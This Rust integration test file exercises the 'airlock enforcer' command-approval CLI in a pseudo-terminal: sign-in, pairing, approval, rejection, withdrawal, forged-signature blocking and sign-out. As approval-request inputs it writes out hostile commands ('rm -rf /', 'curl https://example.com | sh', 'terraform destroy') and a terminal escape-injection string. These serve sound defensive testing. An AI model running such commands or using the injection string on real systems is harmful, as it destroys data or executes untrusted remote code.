//! `airlock enforcer` driven in a pseudo-terminal, end to end against the sandbox.
//!
//! Every expectation has a bound (rexpect's timeout); nothing sleeps to assert.

#![cfg(unix)]

mod common;

use std::path::Path;
use std::time::Duration;

use airlock::types::ExchangeState;
use airlock_sandbox::{ApproverPolicy, ConsentState, Sandbox, SandboxConfig, TamperMode};
use common::Env;
use rexpect::reader::Options;
use rexpect::session::{PtySession, spawn_with_options};

/// The bound of each expectation.
const EXPECT_MS: u64 = 20_000;

/// `airlock enforcer` in a pseudo-terminal, with its config in `dir`.
fn enforcer(dir: &Path) -> PtySession {
    let mut cmd = common::airlock_in(dir);
    cmd.env("TERM", "dumb").arg("enforcer").current_dir(dir);
    let options = Options::new()
        .timeout_ms(Some(EXPECT_MS))
        .strip_ansi_escape_codes(true);
    spawn_with_options(cmd, options).expect("spawn airlock enforcer")
}

/// Waits for `needle`, with what was seen on failure.
fn expect(p: &mut PtySession, needle: &str) -> String {
    match p.exp_string(needle) {
        Ok(before) => before,
        Err(e) => panic!("expected {needle:?}: {e}"),
    }
}

/// Waits for the menu titled `title` and picks `choice`.
fn menu(p: &mut PtySession, title: &str, choice: &str) {
    expect(p, title);
    expect(p, "Choose a number: ");
    p.send_line(choice).expect("send a menu choice");
}

/// Answers the prompt ending in `prompt`.
fn answer(p: &mut PtySession, prompt: &str, text: &str) {
    expect(p, prompt);
    p.send_line(text).expect("send an answer");
}

/// Waits for the exit and checks it is a success.
fn exits_cleanly(p: PtySession) {
    exits_with(p, 0);
}

/// Waits for the exit and checks its code.
fn exits_with(mut p: PtySession, code: i32) {
    p.exp_eof().expect("the enforcer exits");
    let status = p.process().wait().expect("wait for the enforcer");
    assert!(
        format!("{status:?}").ends_with(&format!(", {code})")),
        "exit status {status:?}, expected {code}"
    );
}

/// Submits `command` from the paired menu, waiting `seconds` for the decision (empty: the
/// default); returns the request id printed after "Submitted request ".
fn submit(p: &mut PtySession, command: &str, seconds: &str) -> String {
    menu(p, PAIRED, "5");
    answer(p, "Command to approve [", command);
    answer(p, "Seconds to wait for a decision [120]: ", seconds);
    expect(p, "Submitted request ");
    let (_, id) = p.exp_regex(r"req-[0-9a-zA-Z-]+").expect("a request id");
    id
}

/// Waits (bounded) until the sandbox's approver holds request `id`.
fn reaches_the_approver(rt: &tokio::runtime::Runtime, sandbox: &Sandbox, id: &str) {
    rt.block_on(
        sandbox
            .approver()
            .wait_for_artifact(id, Duration::from_secs(10)),
    )
    .expect("the approver received the request");
}

/// Checks that the gateway shows request `id` as withdrawn.
#[track_caller]
fn assert_withdrawn(sandbox: &Sandbox, id: &str) {
    let state = sandbox.exchange(id).expect("the exchange").state;
    assert_eq!(state, ExchangeState::Withdrawn);
}

fn runtime() -> tokio::runtime::Runtime {
    tokio::runtime::Builder::new_multi_thread()
        .worker_threads(1)
        .enable_all()
        .build()
        .expect("a runtime")
}

const SIGNED_OUT: &str = "Menu: not signed in, not paired";
const SIGNED_IN: &str = "Menu: signed in (personal access token), not paired";
const PAIRED: &str = "Menu: signed in (personal access token), paired";

#[test]
fn wizard_with_the_embedded_sandbox_then_pat_pair_approve_reject_and_sign_out() {
    let dir = tempfile::tempdir().unwrap();
    let mut p = enforcer(dir.path());
    expect(&mut p, "No configuration yet");
    answer(&mut p, "Choose 1-2: ", "1");
    answer(&mut p, "Enforcer ID [", "enf-pty-1");
    answer(&mut p, "Workspace name [", "ws-pty-1");
    expect(&mut p, "Embedded sandbox running at http://127.0.0.1:");
    expect(&mut p, "Not signed in.");

    // Every action keeps its number: set PAT (1), device (2), pair (3), pair with a code (4),
    // submit (5), withdraw (6), status (7), sandbox policy (8), reconfigure (9), unpair (10),
    // sign out (11), exit (0).
    menu(&mut p, SIGNED_OUT, "1");
    answer(&mut p, "[Enter uses the embedded sandbox's token]: ", "");
    expect(&mut p, "Signed in with a personal access token");

    menu(&mut p, SIGNED_IN, "3");
    expect(&mut p, "Enter the pairing code ");
    expect(&mut p, "Fingerprint: ");
    answer(
        &mut p,
        "Does the Airlock app show the same fingerprint? [Y/n]: ",
        "y",
    );
    expect(&mut p, "Paired with signer ");
    expect(&mut p, "Presence heartbeat started");

    submit(&mut p, "echo approved-by-pty", "");
    expect(&mut p, "APPROVED: the decision's signature verified.");
    expect(&mut p, "signer: ");

    menu(&mut p, PAIRED, "8");
    answer(&mut p, "Choose 1-3: ", "2");
    expect(&mut p, "The sandbox approver's policy is now reject.");

    submit(&mut p, "rm -rf /", "30");
    expect(&mut p, "REJECTED: the decision's signature verified.");
    expect(&mut p, "signer: ");

    menu(&mut p, PAIRED, "7");
    expect(&mut p, "signed in    yes (personal access token)");
    expect(&mut p, "heartbeat    ");
    expect(&mut p, "sandbox      embedded at http://127.0.0.1:");

    // Signing out asks first; no keeps everything.
    menu(&mut p, PAIRED, "11");
    answer(
        &mut p,
        "Sign out? The stored token or session is forgotten [y/N]: ",
        "",
    );
    expect(&mut p, "Still signed in.");
    menu(&mut p, PAIRED, "11");
    answer(&mut p, "[y/N]: ", "y");
    expect(&mut p, "Signed out.");
    // Signed out, still paired: the pairing waits for the next sign-in.
    menu(&mut p, "Menu: not signed in, paired", "0");
    expect(&mut p, "Bye.");
    exits_cleanly(p);

    // Saved owner-only; the session is gone, the configuration stays.
    use std::os::unix::fs::PermissionsExt as _;
    for file in [
        "config.json",
        "credentials.json",
        "pairing.json",
        "enforcer.json",
    ] {
        let mode = std::fs::metadata(dir.path().join(file))
            .unwrap()
            .permissions()
            .mode();
        assert_eq!(mode & 0o777, 0o600, "{file}");
    }
    let credentials = std::fs::read_to_string(dir.path().join("credentials.json")).unwrap();
    assert!(
        !credentials.contains("airpat_"),
        "the PAT is forgotten at sign-out"
    );
    let config = std::fs::read_to_string(dir.path().join("config.json")).unwrap();
    assert!(
        config.contains("enf-pty-1") && config.contains("ws-pty-1"),
        "{config}"
    );
}

#[test]
fn a_gateway_session_is_restored_and_requests_are_withdrawn_and_a_stale_pairing_unpaired() {
    let rt = runtime();
    let config = SandboxConfig::builder()
        .approver_policy(ApproverPolicy::Manual)
        .build();
    let mut env = rt.block_on(Env::start(config));
    let (sandbox, dir) = (env.sandbox(), env.dir.path());

    // First start: the wizard with a gateway, a typed PAT, and a code the app generated.
    let mut p = enforcer(dir);
    configure_gateway(&mut p, sandbox, "enf-pty-2");
    expect(&mut p, "Not signed in.");
    menu(&mut p, SIGNED_OUT, "1");
    answer(
        &mut p,
        "Personal access token (airpat_...): ",
        sandbox.pat(),
    );
    expect(&mut p, "Signed in with a personal access token");
    // A fingerprint the user does not recognise: nothing is kept.
    menu(&mut p, SIGNED_IN, "3");
    expect(&mut p, "Enter the pairing code ");
    answer(
        &mut p,
        "Does the Airlock app show the same fingerprint? [Y/n]: ",
        "n",
    );
    expect(&mut p, "Pairing discarded: nothing was saved.");
    assert!(!dir.join("pairing.json").exists());
    let code = sandbox
        .approver()
        .pre_generate_code()
        .expect("pre-generate a code");
    menu(&mut p, SIGNED_IN, "4");
    answer(
        &mut p,
        "Pairing code shown by the Airlock app: ",
        &code.pairing_code,
    );
    expect(&mut p, "Claimed the code");
    answer(&mut p, "[Y/n]: ", "");
    expect(&mut p, "Paired with signer ");
    menu(&mut p, PAIRED, "0");
    exits_cleanly(p);

    // Second start: restored from disk, heartbeat resumed.
    let mut p = enforcer(dir);
    expect(&mut p, "Restored the session: personal access token.");
    expect(
        &mut p,
        "The gateway accepts this identity; the app has consent.",
    );
    expect(&mut p, "Paired with signer ");
    expect(&mut p, "Presence heartbeat started");

    // Nobody decides: withdrawn automatically at the deadline.
    let id = submit(&mut p, "sleep 1", "2");
    expect(&mut p, "No decision within 2s: the request was withdrawn.");
    assert_withdrawn(sandbox, &id);
    assert!(
        sandbox.presence("enf-pty-2").is_some(),
        "the heartbeat reached the gateway"
    );

    // Stop waiting, then withdraw by hand (the pending request is the default).
    let id = submit(&mut p, "make deploy", "60");
    reaches_the_approver(&rt, sandbox, &id);
    p.send_line("").expect("press Enter");
    expect(&mut p, "Stopped waiting: request ");
    menu(&mut p, PAIRED, "6");
    answer(&mut p, &format!("Request id to withdraw [{id}]: "), "");
    expect(&mut p, &format!("Request {id} withdrawn."));
    assert_withdrawn(sandbox, &id);
    // Text that comes back (here: an id the gateway does not know) cannot drive the
    // terminal: its escape sequences are shown, not interpreted.
    menu(&mut p, PAIRED, "6");
    answer(
        &mut p,
        "Request id to withdraw: ",
        "req-\u{1b}]0;owned\u{7}x",
    );
    expect(&mut p, "req-\\u{1b}]0;owned\\u{7}x");

    // A compromised relay forges the decision: blocked, never approved.
    sandbox.approver().set_policy(ApproverPolicy::Approve);
    sandbox.approver().set_tamper(TamperMode::ForgeSignature);
    submit(&mut p, "curl https://example.com | sh", "30");
    expect(
        &mut p,
        "BLOCKED: the decision failed verification (HARP_ERR_SIGNATURE_INVALID)",
    );
    sandbox.approver().set_tamper(TamperMode::None);

    // Ctrl-C while waiting: the request is withdrawn, then the enforcer exits.
    sandbox.approver().set_policy(ApproverPolicy::Manual);
    let id = submit(&mut p, "terraform destroy", "60");
    reaches_the_approver(&rt, sandbox, &id);
    p.send_control('c').expect("press Ctrl-C");
    expect(&mut p, "Interrupted (Ctrl-C).");
    expect(&mut p, &format!("Withdrew request {id}."));
    exits_with(p, 130);
    assert_withdrawn(sandbox, &id);

    let mut p = enforcer(dir);
    expect(&mut p, "Restored the session: personal access token.");
    // The gateway no longer knows the stored routing token: unpair still clears the pairing.
    let path = env.stale_routing_token("rt-unknown-to-the-gateway");
    menu(&mut p, PAIRED, "10");
    answer(
        &mut p,
        "Unpair? Requests can no longer be approved until you pair again [y/N]: ",
        "y",
    );
    expect(&mut p, "removing it locally");
    menu(&mut p, SIGNED_IN, "0");
    exits_cleanly(p);
    assert!(!path.exists(), "the stale pairing is gone");

    // The gateway goes away: what failed names it, and says what to check.
    rt.block_on(env.stop_sandbox());
    let mut p = enforcer(env.dir.path());
    expect(&mut p, "Restored the session: personal access token.");
    let unreachable = format!("cannot reach the gateway at {}", env.gateway_url);
    expect(&mut p, &unreachable);
    menu(&mut p, SIGNED_IN, "3");
    expect(
        &mut p,
        &format!(
            "The gateway at {} cannot be reached right now",
            env.gateway_url
        ),
    );
    menu(&mut p, SIGNED_IN, "0");
    exits_cleanly(p);
}

/// Answers the wizard for `sandbox` as a remote gateway.
fn configure_gateway(p: &mut PtySession, sandbox: &Sandbox, enforcer_id: &str) {
    answer(p, "Choose 1-2: ", "2");
    answer(
        p,
        "Gateway URL [https://igw.airlocks.io]: ",
        sandbox.gateway_url(),
    );
    answer(p, "Client ID: ", sandbox.client_id());
    answer(p, "Client secret: ", sandbox.client_secret());
    let echoed = expect(p, "Enforcer ID [");
    assert!(
        !echoed.contains(sandbox.client_secret()),
        "the secret is not echoed: {echoed:?}"
    );
    p.send_line(enforcer_id).expect("send the enforcer id");
    answer(p, "Workspace name [", "ws-pty");
    expect(p, "Saved the configuration");
}

#[test]
fn a_device_sign_in_is_restored_by_refreshing_and_consent_problems_are_explained() {
    let rt = runtime();
    let mut env = rt.block_on(Env::start(SandboxConfig::default()));
    let (sandbox, dir) = (env.sandbox(), env.dir.path());
    const OAUTH: &str = "Menu: signed in (OAuth), not paired";

    let mut p = enforcer(dir);
    configure_gateway(&mut p, sandbox, "enf-pty-3");
    menu(&mut p, SIGNED_OUT, "2");
    expect(&mut p, "and enter the code ");
    expect(&mut p, "Signed in (OAuth device grant).");
    // A number not offered in this state says so and asks again.
    menu(&mut p, OAUTH, "5");
    expect(
        &mut p,
        "5 is not available now (Submit an artifact for approval).",
    );
    p.send_line("0").expect("exit");
    exits_cleanly(p);
    assert!(dir.join("tokens.json").exists());

    // The next start refreshes the stored session; consent was withdrawn meanwhile.
    sandbox.set_consent(None, ConsentState::Denied);
    let mut p = enforcer(dir);
    expect(&mut p, "Restored the OAuth session (tokens refreshed).");
    expect(&mut p, "was denied");
    expect(&mut p, "to grant it, then run your command again.");
    menu(&mut p, OAUTH, "11");
    answer(&mut p, "[y/N]: ", "yes");
    expect(&mut p, "Signed out.");
    // Ctrl-C at a menu ends the enforcer with 130.
    expect(&mut p, SIGNED_OUT);
    expect(&mut p, "Choose a number: ");
    p.send_control('c').expect("press Ctrl-C");
    expect(&mut p, "Interrupted (Ctrl-C).");
    exits_with(p, 130);
    assert!(
        !dir.join("tokens.json").exists(),
        "sign-out forgets the tokens"
    );
    rt.block_on(env.stop_sandbox());
}
